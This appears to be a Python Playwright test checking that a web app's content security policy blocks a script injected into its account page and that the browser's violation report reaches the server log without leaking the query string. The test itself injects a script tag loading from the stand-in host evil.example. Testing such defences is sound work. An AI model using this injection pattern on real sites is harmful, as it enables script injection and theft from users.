"""A real browser tells the server what the content policy kept it from."""

from __future__ import annotations

from playwright.sync_api import Browser

from tests.support.killable import eventually
from tests.support.web import Server


def test_a_browser_tells_what_it_was_kept_from(shared_server: Server, browser: Browser) -> None:
    context = browser.new_context()
    page = context.new_page()
    shared_server.sign_in(page)
    page.goto(f"{shared_server.url}/account")
    page.evaluate("""() => {
        const script = document.createElement("script");
        script.src = "https://evil.example/a.js?who=1";
        document.body.append(script);
    }""")
    line = "the content policy kept a browser from script-src-elem of evil.example/a.js on "
    eventually(lambda: line in shared_server.logged(), 20)
    context.close()
    assert "who=1" not in shared_server.logged()
